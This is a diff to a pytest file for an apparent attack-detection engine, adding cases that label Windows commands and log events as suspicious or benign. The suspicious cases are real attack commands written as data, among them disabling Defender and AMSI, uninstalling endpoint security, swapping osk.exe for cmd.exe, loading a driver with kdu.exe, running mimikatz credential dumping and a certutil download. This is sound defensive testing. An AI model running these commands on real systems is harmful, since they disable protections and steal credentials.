@@ -55,6 +55,15 @@ def test_every_piece_of_knowledge_names_techniques_and_a_weight() -> None:
         "certutil -urlcache -split -f http://192.0.2.7/a.exe a.exe",
         "mimikatz.exe privilege::debug sekurlsa::logonpasswords",
         'schtasks /create /tn u /sc minute /tr "powershell -w hidden -c iex"',
+        "conhost.exe --headless powershell -File C:\\Users\\a\\x.ps1",
+        "cmd /c start /min %TEMP%\\a.bat",
+        "SystemSettingsAdminFlows.exe Defender RTP 1",
+        "wmic product where \"name like '%Endpoint Security%'\" call uninstall /nointeractive",
+        "mklink C:\\Windows\\System32\\osk.exe C:\\Windows\\System32\\cmd.exe",
+        "WerFaultSecure.exe /h /pid 700 /tid 704 /encfile 120 /cancel 132 /type 268310",
+        "kdu.exe -prv 1 -map a.sys",
+        'AdvancedRun.exe /EXEFilename "sc.exe" /CommandLine "stop WinDefend" /RunAs 8 /Run',
+        'schtasks /change /tn "\\Microsoft\\Windows\\SystemRestore\\SR" /disable',
     ],
 )
 def test_an_attackers_command_is_suspicious_by_itself(command: str) -> None:
@@ -94,6 +103,12 @@ def test_an_attackers_command_is_suspicious_by_itself(command: str) -> None:
         "reg query HKLM\\Software\\Vendor /v Version",
         "sc query wuauserv",
         "C:\\Windows\\System32\\rundll32.exe C:\\Windows\\System32\\davclnt.dll,DavSetCookie",
+        "certutil -addstore Root C:\\pki\\company.cer",
+        "chrome.exe --headless --print-to-pdf=C:\\reports\\a.pdf https://intranet.example.com/report",
+        "cmd /c start /b notepad.exe",
+        "schtasks /change /tn Backup /disable",
+        "wmic product where \"name='Vendor Viewer'\" call uninstall",
+        "C:\\Windows\\system32\\WerFault.exe -u -p 4024 -s 1200",
     ],
 )
 def test_an_administrators_command_is_not_suspicious_by_itself(command: str) -> None:
@@ -108,6 +123,8 @@ ON_LSASS = {"event.action": "process-accessed", "winlog.event_data.TargetImage":
 RUN_KEY = "HKU\\S-1\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\x"
 SYSTEM_PROGRAM = "C:\\Windows\\system32\\svchost.exe"
 STRANGER = "C:\\Users\\a\\x.exe"
+AMSI_KEY = "HKU\\S-1\\Software\\Microsoft\\Windows Script\\Settings\\AmsiEnable"
+VALUE_SET = {"event.code": "13", "event.action": "registry-value-set"}
 PATH_RECORD = {"auditd.type": "PATH", "event.outcome": "success"}
 TELLING: list[tuple[str, dict[str, Any]]] = [
     ("dcsync", {**REPLICATION, "user.name": "bob"}),
@@ -127,6 +144,14 @@ TELLING: list[tuple[str, dict[str, Any]]] = [
     ("program-in-temporary-folder", {**STARTED, "process.executable": "/tmp/x"}),
     ("root-by-service-account", {**STARTED, "user.name": "www-data", "user.effective.name": "root"}),
     ("wmi-subscription", {"event.action": "wmi-consumer", "winlog.event_data.Name": "x"}),
+    ("protection-off-key", {**VALUE_SET, "registry.path": AMSI_KEY, "registry.data.strings": "DWORD (0x00000000)"}),
+    ("protection-removed-key", {"event.code": "12", "event.type": ["deletion"], "registry.path": AMSI_KEY}),
+    (
+        "unlikely-writer",
+        {"event.action": "file-created", "process.executable": "C:\\Office\\WINWORD.EXE", "file.path": "C:\\T\\a.exe"},
+    ),
+    ("control-item-elsewhere", {"event.action": "image-loaded", "dll.path": "C:\\Users\\a\\bthprops.cpl"}),
+    ("maintenance-task-gone", {"event.code": "4701", "winlog.task_name": "\\Microsoft\\Windows\\SystemRestore\\SR"}),
 ]
 
 
@@ -148,6 +173,10 @@ def test_an_event_that_tells_of_an_attack_gives_its_sign(kind: str, fields: dict
         {**PATH_RECORD, "file.path": "/home/a/.ssh/authorized_keys", "event.type": ["info"], "process.name": "cat"},
         {"event.code": "13", "registry.path": "HKLM\\System\\CurrentControlSet\\Services\\Tcpip\\Hostname"},
         {"event.code": "4624", "winlog.logon.type": "5"},
+        {**VALUE_SET, "registry.path": AMSI_KEY, "registry.data.strings": "DWORD (0x00000001)"},
+        {"event.action": "image-loaded", "dll.path": "C:\\Windows\\System32\\main.cpl"},
+        {"event.action": "file-created", "file.path": "C:\\Windows\\System32\\winevt\\Logs\\System.evtx"},
+        {"event.code": "4701", "winlog.task_name": "\\Backup", "user.name": "ada"},
     ],
 )
 def test_an_ordinary_event_gives_no_sign(fields: dict[str, Any]) -> None:
